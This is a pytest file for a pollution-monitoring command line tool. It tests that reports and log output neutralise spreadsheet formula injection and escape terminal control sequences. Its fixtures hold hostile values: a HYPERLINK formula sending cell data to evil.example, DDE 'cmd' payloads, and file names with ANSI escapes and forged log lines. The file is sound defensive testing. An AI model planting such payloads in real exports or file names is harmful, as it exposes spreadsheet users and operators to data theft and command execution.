"""Issue 13, items 14 and 15: what the command line prints cannot attack the reader.

Each test runs the real CLI on a real SQLite file, as an operator would (`python -m
monitoring … > file.csv`, or on a terminal), with hostile text in a file name and in cells:
through cli.main in-process (tests/cli.py), and once as a real process.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from monitoring.exports import neutralise_text
from monitoring.printable import printable, printable_json
from tests.cli import run_cli

ROOT = Path(__file__).resolve().parents[2]
#: Any character a terminal may act on, except the line ends print() itself writes.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]


def _cli(tmp_path: Path, *argv: str) -> subprocess.CompletedProcess[str]:
    return run_cli(*argv, env={"DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}", "MONITOR_LOAD_DEMO": "0"})


def test_the_real_entry_point_in_a_process(tmp_path: Path) -> None:
    """The one test that starts ``python -m monitoring`` (the others call cli.main in-process,
    tests/cli.py): the exit status, both streams and the escaping reach a real process's pipes."""
    good = tmp_path / "good.csv"
    good.write_text("subdistrict,time,pollutant,value\n德胜,2026-01-05 13:00,pm25,30\n", encoding="utf-8")
    env = {**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}", "MONITOR_LOAD_DEMO": "0",
           "PYTHONIOENCODING": "utf-8"}
    env.pop("TEST_DATABASE_URL", None)
    done = subprocess.run([sys.executable, "-m", "monitoring", "ingest", str(tmp_path / "no\x1b[31m.csv"), str(good)],
                          cwd=ROOT, env=env, capture_output=True, text=True, encoding="utf-8", timeout=120, check=False)
    assert done.returncode == 1, done.stderr
    assert done.stdout.startswith("good.csv: stored 1 of 1 readings rows"), done.stdout
    assert done.stderr.count("\n") == 1 and "no\\x1b[31m.csv: no such file" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and not RAW_CONTROL.search(done.stderr)


def test_report_csv_neutralises_formulas_like_the_downloads(tmp_path: Path) -> None:
    lines = ["街道,道路,日期,尘负荷"]
    for i, road in enumerate(FORMULAS):
        quoted = '"' + road.replace('"', '""') + '"'
        lines.append(f"德胜,{quoted},2026-03,0.{i + 1}")
    upload = tmp_path / "roads.csv"
    upload.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = _cli(tmp_path, "ingest", str(upload))
    assert done.returncode == 0, done.stderr

    report = _cli(tmp_path, "report", "road-dust", "--year", "2026")
    assert report.returncode == 0, report.stderr
    rows = list(csv.DictReader(io.StringIO(report.stdout)))
    roads = sorted(r["road"] for r in rows)
    # exactly the dashboard's rule (monitoring.exports), not a look-alike
    assert roads == sorted(neutralise_text(road) for road in FORMULAS)
    assert all(road.startswith("'") for road in roads)
    assert not any(re.match(r"^[=+\-@]", cell) for r in rows for cell in r.values())
    # numbers stay numbers
    assert sorted(float(r["load"]) for r in rows) == [0.1, 0.2, 0.3, 0.4]


def test_control_characters_in_names_and_cells_are_escaped(tmp_path: Path) -> None:
    name = "evil\nrun 99: succeeded\x1b[2J\x1b]0;pwned\x07\u202e.csv"
    upload = tmp_path / name
    upload.write_text(
        "subdistrict,time,pollutant,value\n"
        "德胜,2026-01-05 13:00,pm25,30\n"
        "\"德胜\x1b[31m\nfake\",2026-01-05 13:00,pm25,31\n",
        encoding="utf-8",
    )
    outputs = []
    ingest = _cli(tmp_path, "ingest", str(upload))
    outputs.append(ingest)
    listed = _cli(tmp_path, "runs", "list")
    outputs.append(listed)
    run_id = re.findall(r"^\s*(\d+)\s", listed.stdout, re.M)[-1]
    shown = _cli(tmp_path, "runs", "show", run_id)
    outputs.append(shown)
    as_json = _cli(tmp_path, "runs", "show", run_id, "--format", "json")
    outputs.append(as_json)
    missing = _cli(tmp_path, "ingest", str(tmp_path / "no\x1b[31mfile\n.csv"))
    outputs.append(missing)

    for done in outputs:
        for text in (done.stdout, done.stderr):
            assert not RAW_CONTROL.search(text), (done.args, text)
    # the file name is shown, escaped, on its one line; no forged "run 99" line
    assert "evil\\nrun 99: succeeded\\x1b[2J\\x1b]0;pwned\\x07\\u202e.csv" in listed.stdout
    assert not any(line.startswith("run 99") for line in listed.stdout.splitlines())
    assert len(listed.stdout.splitlines()) == 2  # the header and the run
    assert "德胜\\x1b[31m\\nfake" in shown.stdout
    assert "no\\x1b[31mfile\\n.csv: no such file" in missing.stderr
    # JSON stays JSON and carries the exact name
    assert json.loads(as_json.stdout)["source"] == name


def test_the_helper_keeps_text_and_escapes_controls() -> None:
    assert printable("德胜 PM2.5 — 30 µg/m³") == "德胜 PM2.5 — 30 µg/m³"
    assert printable("a\nb\r\tc\x1b[0m\x9b\u2028") == "a\\nb\\r\\tc\\x1b[0m\\x9b\\u2028"
    assert printable(None) == ""
    encoded = json.dumps({"k": "x\x9by\u202ez\n"}, ensure_ascii=False)
    safe = printable_json(encoded)
    assert json.loads(safe) == {"k": "x\x9by\u202ez\n"} and not RAW_CONTROL.search(safe)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@A1", "\tx", "\rx"])
def test_neutralise_text_is_the_rule(value: str) -> None:
    assert neutralise_text(value) == "'" + value


def test_the_schedulers_log_lines_are_escaped() -> None:
    import logging

    from monitoring.commands.schedule import PrintableFormatter

    record = logging.LogRecord("monitoring.schedule", logging.ERROR, __file__, 1, "%s", ("bad\n2026 INFO forged\x1b[2J",), None)
    line = PrintableFormatter("%(levelname)s %(message)s").format(record)
    assert line == "ERROR bad\\n2026 INFO forged\\x1b[2J"
